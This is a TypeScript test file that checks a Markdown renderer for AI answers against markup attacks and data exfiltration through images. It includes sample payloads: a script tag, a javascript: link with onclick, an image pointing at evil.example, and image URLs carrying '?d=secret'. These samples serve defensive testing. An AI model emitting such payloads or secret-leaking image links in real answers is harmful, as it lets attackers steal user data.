import '../../../test-setup.ts'
import { MARKUP_ATTACKS } from '@placard/testing'
import { render } from '@testing-library/react'
import { describe, expect, it } from 'vitest'
import { AnswerText, fetchMarkdown } from './AnswerText.tsx'
import { texMarks } from './blocks.ts'
import { drawnTexts } from './drawn-text.tsx'
import { highlightExtras } from './highlight.ts'
import { Markdown } from './Markdown.tsx'
import { mathExtras } from './math.ts'
import { safeAddress } from './safe-address.ts'

/** Elements that neither run nor load anything. */
const HARMLESS = new Set(
  [
    'a b blockquote br button code del div em h3 h4 h5 h6 hr i li ol p pre s span strong sub sup table tbody td th thead tr ul',
    // the drawn copy button, and formulas
    'section input svg path rect line g annotation math semantics mrow mi mn mo mtext msup msub mfrac msqrt mstyle mspace menclose mover munder mtable mtr mtd mpadded merror',
  ]
    .join(' ')
    .split(' '),
)
const ADDRESSES = [
  'href',
  'src',
  'srcset',
  'action',
  'formaction',
  'poster',
  'data',
  'background',
  'xlink:href',
  'ping',
]

function dangersIn(root: Element): readonly string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const name = element.tagName.toLowerCase()
    const isDrawn = element.closest('button') !== null
    const found = HARMLESS.has(name) ? [] : [`<${name}>`]
    for (const { name: attribute, value } of element.attributes) {
      if (/^on/i.test(attribute)) found.push(`${name} ${attribute}`)
      if (/url\(|expression|behavior/i.test(attribute === 'style' ? value : '')) found.push(`${name} style ${value}`)
      if (!isDrawn && (attribute === 'id' || attribute === 'name')) found.push(`${name} ${attribute}=${value}`)
      if (!ADDRESSES.includes(attribute.toLowerCase())) continue
      const isLink = name === 'a' && attribute === 'href'
      if (!isLink || safeAddress(value) === undefined) found.push(`${name} ${attribute}=${value}`)
      if (element.getAttribute('rel') !== 'noopener noreferrer' || element.getAttribute('target') !== '_blank') {
        found.push(`${name} opens ${value} without care`)
      }
    }
    return found
  })
}

const EVERYTHING = {
  remark: [...mathExtras.remark],
  rehype: [...mathExtras.rehype, ...highlightExtras.rehype],
}

describe('advisory 16 (CVE-2026-44568) VA-13 AI-7 what an answer may say', () => {
  it('is tried with at least 150 attacks, no two the same', () => {
    expect(new Set(MARKUP_ATTACKS).size).toBeGreaterThanOrEqual(150)
  })

  it.each(MARKUP_ATTACKS)('runs, loads and hides nothing: %j', (attack) => {
    const { container } = render(
      <>
        <Markdown text={attack} />
        <Markdown text={attack} extras={EVERYTHING} />
      </>,
    )
    expect(dangersIn(container)).toEqual([])
  })

  it('runs, loads and hides nothing in what is saved of it either', async () => {
    const container = document.createElement('div')
    for (const [attack, html] of await drawnTexts(MARKUP_ATTACKS)) {
      container.innerHTML = html
      expect(dangersIn(container), attack).toEqual([])
    }
  })

  it('would be found out by the same look if it did', () => {
    const container = document.createElement('div')
    container.innerHTML = '<img src="https://evil.example"><a href="javascript:alert(1)" onclick="x">x</a>'
    expect(dangersIn(container).length).toBeGreaterThanOrEqual(4)
  })
})

describe('an answer', () => {
  it('shows HTML as it was written', () => {
    const { container } = render(<Markdown text="Use <b>bold</b> and <script>alert(1)</script>." />)
    expect(container.textContent).toBe('Use <b>bold</b> and <script>alert(1)</script>.')
  })

  it.each([
    { because: 'by reference', text: 'See ![chart][1].\n\n[1]: https://a.example/x.png?d=secret' },
    { because: 'by its own name', text: '![chart]\n\n[chart]: https://a.example/x.png?d=secret' },
    { because: 'as a collapsed reference', text: '![chart][]\n\n[chart]: <https://a.example/x.png?d=secret>' },
    {
      because: 'inside a link',
      text: '[![chart](https://a.example/x.png?d=secret)](https://a.example/x.png?d=secret)',
    },
    { because: 'in a table', text: '| a |\n|---|\n| ![chart](https://a.example/x.png?d=secret) |' },
    { because: 'in a note', text: 'See[^1].\n\n[^1]: ![chart](https://a.example/x.png?d=secret)' },
    { because: 'through our own server', text: '![chart](/api/proxy?url=https://a.example/x.png?d=secret)' },
    { because: 'as data', text: '![chart](data:image/svg+xml,<svg/>)' },
  ])('advisory 24 (CVE-2025-32711) AI-7 loads no picture that is given $because', ({ text }) => {
    const { container } = render(
      <>
        <Markdown text={text} />
        <Markdown text={text} extras={EVERYTHING} />
      </>,
    )
    expect(container.textContent).toContain('chart')
    expect(
      container.querySelectorAll('img, picture, source, image, video, iframe, object, embed, link, style'),
    ).toHaveLength(0)
    expect(container.querySelectorAll('[src], [srcset], [poster], [style*="url"]')).toHaveLength(0)
    expect(dangersIn(container)).toEqual([])
  })

  it('names an image and links to it, and never fetches it', () => {
    const { getByRole } = render(<Markdown text="![A chart](https://a.example/x.png)" />)
    const link = getByRole('link', { name: 'Image: A chart' })
    expect([link.getAttribute('href'), link.getAttribute('rel'), link.getAttribute('target')]).toEqual([
      'https://a.example/x.png',
      'noopener noreferrer',
      '_blank',
    ])
  })

  it('shows a formula that cannot be read as it was written, and the next one well', () => {
    const { container } = render(<Markdown text={'$\\frac{1$ and $x^2$'} extras={EVERYTHING} />)
    expect(container.querySelector('.katex-error')?.textContent).toBe('\\frac{1')
    expect(container.querySelectorAll('math')).toHaveLength(1)
  })

  it('sets a formula that stands alone on a line of its own, in whichever marks it came', () => {
    for (const formula of ['$$\\frac{a}{b}$$', '\\[\\frac{a}{b}\\]', '$$\n\\frac{a}{b}\n$$']) {
      const { container } = render(<Markdown text={texMarks(formula)} extras={EVERYTHING} />)
      expect(container.querySelector('math')?.getAttribute('display'), formula).toBe('block')
    }
    const { container } = render(<Markdown text="Of $$x$$ and $y$." extras={EVERYTHING} />)
    expect(container.querySelectorAll('math:not([display])')).toHaveLength(2)
  })

  it('is words at once, and well set as soon as what sets them is there', async () => {
    await fetchMarkdown()
    const { getByRole, getByText } = render(<AnswerText text={'# Title\n\n- **one**\n\n```ts\nconst open = 1'} />)
    expect(getByRole('heading', { level: 3, name: 'Title' })).toBeDefined()
    expect(getByText('one').tagName).toBe('STRONG')
    expect(getByRole('group', { name: 'Code, ts' }).textContent).toBe('const open = 1')
    expect(getByRole('button', { name: 'Copy code' })).toBeDefined()
  })
})
